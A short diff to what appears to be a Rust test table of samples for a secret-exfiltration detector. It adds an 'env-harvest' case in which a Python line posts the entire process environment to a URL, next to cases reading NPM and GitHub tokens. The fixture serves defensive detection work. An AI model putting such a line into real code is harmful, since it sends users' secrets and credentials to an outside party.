@@ -115,6 +115,12 @@ fn samples() -> Vec<Sample> {
             "subprocess.run(command, env=dict(os.environ) if env is None else env)",
         ),
         text(
+            "env-harvest",
+            "beacon.py",
+            "urllib.request.urlopen(url, json.dumps({'host': host, 'env': dict(os.environ)}).encode())",
+            "ENVIRONMENT = MappingProxyType(dict(os.environ))",
+        ),
+        text(
             "env-secrets",
             "release.js",
             "const tokens = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN];",
